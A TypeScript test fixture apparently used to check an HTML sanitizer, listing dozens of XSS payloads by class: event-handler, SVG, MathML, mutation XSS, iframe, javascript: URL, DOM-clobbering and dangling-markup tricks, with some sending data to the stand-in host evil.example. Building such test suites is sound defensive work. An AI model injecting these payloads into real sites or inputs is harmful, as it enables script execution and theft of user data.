/** A piece of HTML that attacks the page that shows it. Its script is `fired(n)`, with the attack's number for `n`. */
interface Attack {
  readonly html: string;
  /** As plain innerHTML without a policy it runs by itself: proof that the attack is real. */
  readonly runs?: true;
}

const runs = (html: string): Attack => ({ html, runs: true });
const waits = (html: string): Attack => ({ html });

/** Attacks by class. */
export const hostileHtml: Readonly<Record<string, readonly Attack[]>> = {
  "script elements": [
    waits("<script>fired(n)</script>"),
    waits("<script src='data:text/javascript,fired(n)'></script>"),
    waits("<scr<script>ipt>fired(n)</script>"),
    waits("<svg><script>fired(n)</script></svg>"),
  ],
  "event handlers": [
    runs("<img src='data:,' onerror=fired(n)>"),
    runs("<IMG SRC='data:,' OnErRoR=fired(n)>"),
    runs("<img/src='data:,'/onerror=fired(n)>"),
    runs("<details open ontoggle=fired(n)>x</details>"),
    runs("<video><source onerror=fired(n) src='data:,'></video>"),
    runs("<audio src='data:,' onerror=fired(n)></audio>"),
    waits("<p onclick=fired(n) onmouseover=fired(n) style='position:fixed;inset:0'>x</p>"),
    waits("<a href=/index onclick=fired(n) onfocus=fired(n) autofocus>x</a>"),
  ],
  SVG: [
    waits("<svg onload=fired(n)></svg>"),
    runs("<svg><image href='data:,' onerror=fired(n) /></svg>"),
    waits("<svg><a xlink:href='javascript:fired(n)'><text y=20>x</text></a></svg>"),
    runs("<svg><animate onbegin=fired(n) attributeName=x dur=1s></svg>"),
    waits("<svg><use href='data:image/svg+xml,<svg id=x onload=fired(n) />#x' /></svg>"),
  ],
  MathML: [
    waits("<math href='javascript:fired(n)'>x</math>"),
    waits("<math><maction actiontype='statusline#' xlink:href='javascript:fired(n)'>x</maction></math>"),
    runs("<math><annotation-xml encoding='text/html'><img src='data:,' onerror=fired(n)></annotation-xml></math>"),
  ],
  "mutation XSS": [
    runs("<svg></p><style><a id='</style><img src=data:, onerror=fired(n)>'>"),
    runs("<noscript><p title='</noscript><img src=data:, onerror=fired(n)>'></noscript>"),
    waits("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=data:, onerror=fired(n)&gt;'>"),
    waits(
      "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=fired(n) src=data:,>'>",
    ),
    runs("<style><img src='</style><img src=data:, onerror=fired(n)>'></style>"),
    runs("<title><a title='</title><img src=data:, onerror=fired(n)>'></title>"),
  ],
  frames: [
    runs("<iframe srcdoc='<script>parent.fired(n)</script>'></iframe>"),
    runs("<iframe src='javascript:parent.fired(n)'></iframe>"),
    waits("<object data='data:text/html,<script>parent.fired(n)</script>'></object>"),
    waits("<embed src='data:text/html,<script>parent.fired(n)</script>'>"),
  ],
  "URL schemes": [
    waits("<a href='javascript:fired(n)'>x</a>"),
    waits("<a href='JaVaScRiPt:fired(n)'>x</a>"),
    waits("<a href='java&#9;script:fired(n)'>x</a>"),
    waits("<a href='&#1;javascript:fired(n)'>x</a>"),
    waits("<a href='data:text/html,<script>fired(n)</script>'>x</a>"),
    waits("<a href='vbscript:fired(n)'>x</a>"),
    waits("<a href='blob:https://evil.example/1'>x</a>"),
  ],
  "links that leave the site": [
    waits("<a href='//evil.example'>x</a>"),
    waits("<a href='/\\evil.example'>x</a>"),
    waits("<a href='/&#9;/evil.example'>x</a>"),
    waits("<a href='http://evil.example' ping='https://evil.example/ping'>x</a>"),
  ],
  templates: [
    waits("<template><img src='data:,' onerror=fired(n)></template>"),
    waits("<div><template shadowrootmode=open><img src='data:,' onerror=fired(n)></template></div>"),
    waits("<slot name=x><img src='data:,' alt='${fired(n)}'></slot>{{fired(n)}}"),
  ],
  "DOM clobbering": [
    runs("<form id=a><input name=attributes><input name=childNodes><img src='data:,' onerror=fired(n)></form>"),
    waits("<img name=getElementById src=/x.png><a id=livery-site href=/index>x</a>"),
    waits("<form name=body action=https://evil.example><input name=action><button>x</button></form>"),
  ],
  styles: [
    runs("<style>@keyframes k{}</style><p style='animation-name:k' onanimationstart=fired(n)>x</p>"),
    waits("<style>*{display:none!important}</style>"),
    waits("<div style='background:url(https://evil.example/x);position:fixed;inset:0;z-index:9999'>x</div>"),
    runs("<link rel=stylesheet href='data:text/css,' onload=fired(n)>"),
  ],
  "requests and dangling markup": [
    waits("<img src='https://evil.example/?data="),
    waits("<img src='/x.png' srcset='https://evil.example/x.png 1x'>"),
    waits("<base href='https://evil.example/'><a href=/index>x</a>"),
    waits("<meta http-equiv=refresh content='0;url=https://evil.example'>"),
    waits("<form action='https://evil.example'><textarea name=x>"),
    waits("<video poster='https://evil.example/x.png'></video>"),
  ],
};
